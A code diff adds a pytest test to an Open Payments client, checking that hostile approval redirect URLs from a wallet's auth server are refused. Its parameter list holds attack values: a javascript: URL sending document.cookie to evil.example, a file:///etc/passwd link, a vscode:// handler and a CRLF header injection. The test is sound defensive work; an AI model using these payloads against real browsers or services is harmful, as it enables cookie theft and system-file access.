@@ -16,8 +16,10 @@ import json
 import pytest
 
 from opapprove.openpayments import errors, jsontext
+from opapprove.openpayments import models as m
 from opapprove.openpayments.client import OpenPaymentsClient
 from opapprove.openpayments.transport import MAX_RESPONSE_BYTES
+from tests.openpayments.client_support import CLIENT_WALLET, KEY, KID
 from tests.raw_http import raw_server
 
 WALLET = {
@@ -132,3 +134,43 @@ def test_json_nested_far_past_any_document_is_one_clear_error(
     assert err.status == status and len(traced) == 1  # the --trace copy was made
     if status == 200:
         assert f"with JSON nested deeper than {jsontext.MAX_DEPTH} levels" in str(err)
+
+
+@pytest.mark.parametrize(
+    "redirect",
+    [
+        "javascript:fetch('https://evil.example/?c='+document.cookie)",
+        "file:///etc/passwd",
+        "vscode://evil.example/run",
+        "https://wallet.example/interact\r\nSet-Cookie: x=1",
+    ],
+)
+def test_an_approval_url_a_browser_would_not_just_show_is_refused(redirect: str) -> None:
+    """The approval URL goes to a person's browser (``--open``, a QR code, the marketplace's
+    link): from a hostile wallet's auth server, a script or a local file ran there."""
+    body = json.dumps(
+        {
+            "interact": {"redirect": redirect, "finish": "4CF492MLVMSW9MKMXKHQ"},
+            "continue": {
+                "access_token": {"value": "33OMUKMKSKU80UPRY5NM"},
+                "uri": "https://auth.wallet.example/continue/4CF492MLVMSW9MKMXKHQ",
+                "wait": 5,
+            },
+        }
+    ).encode()
+    head = (
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n"
+    )
+
+    async def ask() -> errors.InvalidResponse:
+        async with raw_server(head, body) as url:
+            client = OpenPaymentsClient(key=KEY, key_id=KID, wallet_address_url=CLIENT_WALLET)
+            try:
+                with pytest.raises(errors.InvalidResponse) as caught:
+                    await client.request_grant(url, m.quote_grant(CLIENT_WALLET))
+            finally:
+                await client.aclose()
+        return caught.value
+
+    assert "interact.redirect must be an http or https URL" in str(asyncio.run(ask()))
